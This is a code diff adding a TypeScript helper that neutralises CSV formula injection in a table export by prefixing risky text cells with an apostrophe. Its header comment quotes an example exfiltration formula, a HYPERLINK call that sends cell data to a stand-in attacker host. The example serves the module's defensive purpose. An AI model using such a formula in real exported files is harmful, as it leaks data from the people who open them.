@@ -1,0 +1,24 @@
+import type { ExportCell, ExportColumnType } from './table-model';
+
+/*
+ * CSV injection (OWASP "CSV Injection"): a spreadsheet opening a CSV file evaluates a cell that starts with = + - @
+ * as a formula, so a note such as =HYPERLINK("http://evil.example?"&A1, "klik") typed by anyone who can write a
+ * comment would run on the team lead's machine. Tab and carriage return are on the list because Excel skips them
+ * before looking for the formula sign. The remedy is to make the cell start with an apostrophe, which Excel takes as
+ * "this is text"; the text itself stays readable.
+ *
+ * Only text cells are touched. A number cell is written by us from a number, so "-1,5" there is a negative number,
+ * never a formula, and must stay a number.
+ */
+
+const formulaTriggers: ReadonlySet<string> = new Set(['=', '+', '-', '@', '\t', '\r']);
+
+/** The text with a leading apostrophe when it starts with = + - @ tab or CR (a spreadsheet would run it). */
+export function neutraliseFormula(text: string): string {
+  return text.length > 0 && formulaTriggers.has(text[0]!) ? `'${text}` : text;
+}
+
+/** A cell made safe for a spreadsheet: text cells neutralised, every other type (numbers, dates, booleans) as is. */
+export function neutraliseCell(cell: ExportCell, type: ExportColumnType): ExportCell {
+  return type === 'text' && typeof cell === 'string' ? neutraliseFormula(cell) : cell;
+}
